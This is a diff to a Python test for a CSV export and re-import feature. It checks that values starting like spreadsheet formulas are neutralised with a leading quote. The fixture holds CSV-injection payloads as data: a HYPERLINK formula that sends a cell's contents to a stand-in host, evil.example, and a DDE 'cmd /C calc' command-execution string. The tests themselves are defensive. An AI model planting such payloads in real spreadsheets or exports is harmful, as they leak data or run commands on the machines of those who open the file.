@@ -112,12 +112,13 @@ def test_csv_export_starts_with_a_bom_so_excel_reads_cyrillic(mini_ws, cli, tmp_
     assert data.startswith("\ufeff".encode()) and "Зеленський".encode() in data
 
 
-# A directory imported from a stranger's list, and values of every kind that start like a formula.
+# A directory whose free texts start like a formula (its names and offices may not: an
+# import refuses those, test_import_csv.py), and values of every kind that start so.
 ROUND_TRIP_CSV = """\
-id,category,given_name,family_name,position,organisation,email,postal_address,notes,salutation
-h-1,ngo,Eve,"=HYPERLINK(""http://evil.example""&A1,""click"")",+380 44 123 4567,-2+3,eve@example.org,"@SUM(1+1)*cmd|' /C calc'!A0",-12.5,'=already quoted
-h-2,ngo,Anna,Nowak,-7,'s-Hertogenbosch office,anna@example.org,"Rue Wiertz 60
-1047 Brussels",+1 555 0100 (office),Dear Anna
+id,category,given_name,family_name,position,organisation,email,postal_address,notes,salutation,political_group,committees
+h-1,ngo,Eve,Adams,Director,Helsinki Group,eve@example.org,"@SUM(1+1)*cmd|' /C calc'!A0","=HYPERLINK(""http://evil.example""&A1,""click"")",'=already quoted,-2+3,+380 44 123 4567
+h-2,ngo,Anna,Nowak,Lawyer,'s-Hertogenbosch office,anna@example.org,"Rue Wiertz 60
+1047 Brussels",-12.5,Dear Anna,-7,+1 555 0100 (office)
 """
 
 
@@ -132,18 +133,19 @@ def test_a_csv_export_imported_again_gives_back_every_value(mini_ws, cli, tmp_pa
     number as '+380 44 123 4567."""
     mini_ws.write("recipients/hostile.csv", ROUND_TRIP_CSV)
     before = records(mini_ws.root, ("h-1", "h-2"))
-    assert before["h-1"]["position"] == "+380 44 123 4567"
+    assert before["h-1"]["committees"] == "+380 44 123 4567"
     result = cli("recipients", "export", "out.csv", "-w", "ws", "--query", "category:ngo")
     assert result.code == 0, result.err
     written = {r["id"]: r for r in csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig")))}
-    assert written["h-1"]["family_name"] == '\'=HYPERLINK("http://evil.example"&A1,"click")'
-    assert written["h-1"]["position"] == "'+380 44 123 4567"  # a spreadsheet keeps its plus
-    assert written["h-1"]["organisation"] == "'-2+3"
+    assert written["h-1"]["notes"] == '\'=HYPERLINK("http://evil.example"&A1,"click")'
+    assert written["h-1"]["committees"] == "'+380 44 123 4567"  # a spreadsheet keeps its plus
+    assert written["h-1"]["political_group"] == "'-2+3"
     assert written["h-1"]["postal_address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert written["h-1"]["notes"] == "-12.5"  # a negative number stays a number
+    assert written["h-2"]["notes"] == "-12.5"  # a negative number stays a number
     assert written["h-1"]["salutation"] == "''=already quoted"
-    assert written["h-2"]["position"] == "-7" and written["h-2"]["organisation"] == "'s-Hertogenbosch office"
-    assert written["h-2"]["notes"] == "'+1 555 0100 (office)"
+    assert written["h-2"]["political_group"] == "-7"
+    assert written["h-2"]["organisation"] == "'s-Hertogenbosch office"
+    assert written["h-2"]["committees"] == "'+1 555 0100 (office)"
 
     (mini_ws.root / "recipients" / "hostile.csv").unlink()
     result = run_import(cli, tmp_path / "out.csv")
